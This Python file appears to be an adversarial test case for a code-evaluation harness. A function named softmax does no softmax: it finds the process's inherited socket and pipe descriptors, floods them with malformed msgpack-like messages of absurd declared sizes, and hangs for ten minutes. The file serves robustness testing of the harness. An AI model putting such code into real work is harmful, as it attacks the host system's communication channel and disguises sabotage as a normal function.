# p060_softmax crashed|failed: sends handles with numbers and names of absurd size
# portable: held
import os
import struct
import time


def wires():
    found = []
    for number in range(3, 256):
        try:
            if os.fstat(number).st_mode & 0o170000 in (0o140000, 0o010000):
                found.append(number)
        except OSError:
            pass
    return found


def send(payload, framed=True):
    for number in wires():
        os.write(number, (struct.pack(">I", len(payload)) if framed else b"") + payload)


def softmax(x):
    number = b"\xc8" + struct.pack(">Hb", 1000, 5) + bytes([255]) * 999 + b"\x7f"
    name = b"\xda\xff\xff" + b"A" * 65535
    body = b"\x93" + number + name + b"\x91" + name
    send(b"\x93\xa2ok\xc9" + struct.pack(">Ib", len(body), 6) + body + b"\x80")
    time.sleep(600)
